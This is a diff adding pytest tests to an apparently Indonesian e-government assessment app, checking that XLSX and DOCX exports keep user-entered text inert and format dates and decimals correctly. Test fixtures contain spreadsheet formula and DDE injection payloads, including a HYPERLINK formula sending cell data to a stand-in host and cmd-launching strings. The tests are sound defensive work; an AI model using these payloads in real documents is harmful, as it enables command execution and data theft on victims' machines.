@@ -72,3 +72,74 @@ def test_berita_acara_of_an_open_stage_is_marked_as_draft(world, framework):
     document = docx.Document(io.BytesIO(exports.berita_acara_docx(assessment)))
     text = "\n".join(p.text for p in document.paragraphs)
     assert "DRAF" in text and "belum diisi dan dihitung pada tingkat 1" in text
+
+
+INJECTIONS = {
+    "fakta": '=HYPERLINK("https://contoh.invalid/?x="&A1,"Klik")',
+    "analisis": "+1+cmd|' /C calc'!A0",
+    "justifikasi": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def test_xlsx_user_text_stays_text(world, assessment, framework):
+    services.set_level(assessment, framework.indicators.get(number=11), 3, user=world.users["assessor"], **INJECTIONS)
+    world.inst.name = "=1+1 Pemerintah Provinsi Contoh"
+    world.inst.save()
+    assessment.refresh_from_db()
+    book = openpyxl.load_workbook(io.BytesIO(exports.assessment_xlsx(assessment)))
+    sheet = book["Indikator"]
+    header = [c.value for c in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == 11)
+    for field, label in (("fakta", "Fakta"), ("analisis", "Analisis"), ("justifikasi", "Justifikasi")):
+        cell = row[header.index(label)]
+        assert (cell.value, cell.data_type) == (INJECTIONS[field], "s"), field
+    name = book["Ringkasan"]["B1"]
+    assert (name.value, name.data_type) == ("=1+1 Pemerintah Provinsi Contoh", "s")
+    assert all(c.data_type != "f" for sheet in book for r in sheet.iter_rows() for c in r)
+
+
+def test_docx_user_text_stays_text(world, assessment):
+    member = world.users["assessor"]
+    member.first_name, member.last_name = '=HYPERLINK("https://contoh.invalid")', "{ DDEAUTO c:\\\\cmd.exe }"
+    member.save()
+    content = exports.berita_acara_docx(assessment)
+    document = docx.Document(io.BytesIO(content))
+    names = [row.cells[1].text for row in document.tables[1].rows[1:]]
+    assert '=HYPERLINK("https://contoh.invalid") { DDEAUTO c:\\\\cmd.exe }' in names
+    import zipfile
+
+    xml = zipfile.ZipFile(io.BytesIO(content)).read("word/document.xml").decode()
+    assert "instrText" not in xml and "fldSimple" not in xml and "fldChar" not in xml  # text runs only
+
+
+def test_berita_acara_is_dated_the_day_the_stage_was_locked(world, assessment, settings):
+    lock = services.lock_stage(assessment, user=world.users["admin"])
+    # 3 June 2024 20:00 UTC is Tuesday 4 June 03:00 in Jakarta (the project time zone)
+    lock.locked_at = datetime.datetime(2024, 6, 3, 20, 0, tzinfo=datetime.timezone.utc)
+    lock.save()
+    assessment.refresh_from_db()
+    document = docx.Document(io.BytesIO(exports.berita_acara_docx(assessment)))
+    text = "\n".join(p.text for p in document.paragraphs)
+    assert settings.TIME_ZONE == "Asia/Jakarta"
+    assert "Pada hari ini Selasa, tanggal 4 Juni 2024" in text and "DRAF" not in text
+    assert document.tables[-1].rows[0].cells[1].text.startswith("4 Juni 2024")
+
+
+def test_berita_acara_of_an_open_stage_is_dated_today(world, assessment):
+    from django.utils import timezone
+
+    document = docx.Document(io.BytesIO(exports.berita_acara_docx(assessment)))
+    text = "\n".join(p.text for p in document.paragraphs)
+    assert f"tanggal {exports.date_id(timezone.localdate())}" in text and "DRAF" in text
+
+
+def test_exports_show_four_decimals_where_two_would_contradict_the_predicate(world, framework):
+    from .conftest import DEMO_LEVELS, make_assessment
+
+    assessment = make_assessment(world, framework, levels=dict(DEMO_LEVELS) | {11: 3, 12: 3, 38: 3, 47: 3})
+    document = docx.Document(io.BytesIO(exports.berita_acara_docx(assessment)))
+    cells = {row.cells[0].text: row.cells[1].text for row in document.tables[0].rows}
+    assert (cells["Indeks SPBE (penilaian mandiri)"], cells["Predikat"]) == ("2,5975", "Cukup")
+    book = openpyxl.load_workbook(io.BytesIO(exports.assessment_xlsx(assessment)))
+    row = next(r for r in book["Ringkasan"].iter_rows() if r[0].value == "Penilaian mandiri")
+    assert (row[1].value, row[1].number_format, row[3].value) == (2.5975, "0.0000", "Cukup")
